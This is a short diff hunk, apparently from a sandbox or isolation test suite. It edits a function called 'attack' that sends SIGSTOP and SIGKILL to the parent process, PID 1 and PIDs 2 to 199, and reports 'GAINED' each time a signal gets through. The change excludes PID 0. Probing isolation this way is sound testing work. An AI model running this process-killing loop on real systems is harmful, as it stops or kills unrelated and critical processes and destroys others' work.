@@ -80,7 +80,7 @@ def attack(*a, **k):
     for number in [os.getppid(), 1, *range(2, 200)]:
         for what in (signal.SIGSTOP, signal.SIGKILL):
             try:
-                if number != os.getpid():
+                if number not in (0, os.getpid()):  # 0: its own group
                     os.kill(number, what)
                     print("GAINED: a signal to", number)
             except OSError: pass
